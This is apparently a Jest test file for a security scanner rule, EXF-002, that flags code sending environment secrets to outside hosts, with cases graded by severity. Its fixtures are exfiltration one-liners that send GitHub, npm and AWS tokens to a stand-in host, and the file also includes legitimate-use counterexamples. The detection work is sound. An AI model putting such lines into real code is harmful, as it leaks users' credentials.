import { describe, expect, it } from '@jest/globals';
import { hitsOf, js } from '../testing/hits-of.ts';

describe('EXF-002 a secret of the environment leaves the machine', () => {
  it.each([
    [
      'to another host',
      `fetch('https://x.example.invalid', { headers: { authorization: process.env.GITHUB_TOKEN } });`,
      'critical',
    ],
    ['in the address', 'fetch(`https://x.example.invalid/?t=${process.env.NPM_TOKEN}`);', 'critical'],
    [
      'in the body, wherever it goes',
      `const t = process.env['AWS_SECRET_' + 'ACCESS_KEY']; fetch(url, { body: t });`,
      'critical',
    ],
    [
      'through a function',
      `const send = (d) => require('https').get('https://x.example.invalid/' + d); send(process.env.NODE_AUTH_TOKEN);`,
      'critical',
    ],
    [
      'as the credential of an unknown host',
      `fetch(base + '/user', { headers: { Authorization: 'token ' + process.env.GITHUB_TOKEN } });`,
      'medium',
    ],
  ])('finds it sent %s', (_name, source, severity) => {
    expect(hitsOf('EXF-002', js(source))).toEqual([`${severity} index.js`]);
  });

  it.each([
    [
      'a token to its issuer',
      `fetch('https://api.github.com/user', { headers: { authorization: process.env.GITHUB_TOKEN } });`,
    ],
    [
      'a key of the plugin itself',
      `fetch('https://api.example.invalid', { headers: { 'x-api-key': process.env.ACME_API_KEY } });`,
    ],
    [
      'a token that stays',
      `if (!process.env.NPM_TOKEN) throw new Error('no token'); fetch('https://x.example.invalid');`,
    ],
  ])('passes %s', (_name, source) => {
    expect(hitsOf('EXF-002', js(source))).toEqual([]);
  });
});
